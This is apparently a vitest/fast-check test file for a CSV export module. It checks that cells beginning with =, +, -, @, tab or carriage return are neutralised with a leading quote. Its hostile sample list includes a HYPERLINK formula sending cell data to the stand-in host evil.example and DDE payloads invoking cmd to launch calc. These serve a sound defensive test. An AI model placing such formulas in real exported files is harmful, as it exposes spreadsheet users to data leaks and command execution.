import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, parseCsv, toCsv } from '../../src/domain/export';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A2;"Cliquez ici")', "=cmd|' /C calc'!A0", '+SUM(1;1)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('CSV cells never start a formula (issue 27, OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x"&A2)', `'=HYPERLINK("http://x"&A2)`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['+SUM(A1:A2)', `'+SUM(A1:A2)`],
    ['-A1', `'-A1`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\tvaleur', `'\tvaleur`],
    ['\rvaleur', `'\rvaleur`],
    ['+33 6 12 34 56 78', `'+33 6 12 34 56 78`],
    ['-2,5 m²', `'-2,5 m²`],
    ['-', `'-`],
    // Plain numbers are values, never formulas: kept as they are.
    ['-12', '-12'],
    ['+33612345678', '+33612345678'],
    ['-2,5', '-2,5'],
    ['+0.5', '+0.5'],
    // Anything else is unchanged.
    ['', ''],
    ['Lefèvre', 'Lefèvre'],
    [' =1+1', ' =1+1'],
    ["'=1+1", "'=1+1"],
    ['A=1', 'A=1'],
    ['12 - 14', '12 - 14'],
  ])('%j → %j', (value, expected) => {
    expect(neutralizeFormula(value)).toBe(expected);
  });

  it('the file read back holds the quoted text for every hostile cell, headers included', () => {
    const csv = toCsv(['=Nom', 'Prénom'], HOSTILE.map((h) => [h, 'Jean']));
    const parsed = parseCsv(csv);
    expect(parsed[0]).toEqual(["'=Nom", 'Prénom']);
    expect(parsed.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
  });

  it('property: no cell of a written file starts a formula unless it is a plain number, and the text after the quote is the value', () => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', 'a', '"', ';', ' ', '1');
    fc.assert(
      fc.property(fc.array(fc.tuple(start, fc.string()).map(([s, rest]) => s + rest), { minLength: 1, maxLength: 8 }), (values) => {
        const [row] = parseCsv(toCsv(values.map((_, i) => `h${i}`), [values])).slice(1);
        expect(row).toHaveLength(values.length);
        row!.forEach((cell, i) => {
          const value = values[i]!;
          if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-]?\d+(?:[.,]\d+)?$/);
          expect(cell === value || cell === `'${value}`).toBe(true);
        });
      }),
    );
  });
});
